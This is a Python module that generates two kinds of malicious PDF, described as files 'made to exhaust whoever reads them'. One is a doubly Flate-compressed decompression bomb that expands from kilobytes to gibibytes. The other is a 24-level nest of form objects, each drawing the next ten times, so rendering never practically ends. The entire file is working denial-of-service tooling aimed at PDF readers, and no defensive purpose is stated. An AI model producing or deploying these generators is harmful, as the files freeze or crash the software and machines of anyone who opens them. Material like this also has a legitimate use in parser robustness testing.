"""Files made to exhaust whoever reads them, small on disk, each by one known trick."""

import zlib


def pdf(objects: list[bytes]) -> bytes:
    """Return a PDF of these objects, numbered from 1; the first is the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    places = []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start))


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<<%b/Length %d>>\nstream\n%b\nendstream" % (more, len(data), data)


def page(resources: bytes = b"") -> list[bytes]:
    """Return the catalog, the tree and one page whose content is object 4."""
    return [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<<%b>>>>" % resources,
    ]


def swelling_pdf(gibibytes: int = 1) -> bytes:
    """Return a PDF of some kilobytes whose page unpacks, twice, to so many gibibytes."""
    packer = zlib.compressobj(1)
    block = bytes(1 << 24)
    once = b"".join(packer.compress(block) for _each in range(64 * gibibytes)) + packer.flush()
    twice = zlib.compress(once, 9)
    return pdf([*page(), stream(twice, b"/Filter[/FlateDecode/FlateDecode]")])


def endless_pdf(levels: int = 24) -> bytes:
    """Return a PDF whose page draws a form that draws a form ten times, and so on: it would take years."""
    objects = [*page(b"/XObject<</F 5 0 R>>"), stream(b"/F Do")]
    for level in range(levels):
        inner = b"/Resources<</XObject<</F %d 0 R>>>>" % (6 + level)
        drawn = b" ".join([b"/F Do"] * 10) if level + 1 < levels else b"0 0 1 1 re f"
        objects.append(stream(drawn, b"/Type/XObject/Subtype/Form/BBox[0 0 612 792]" + inner))
    return pdf([*objects, b"<<>>"])
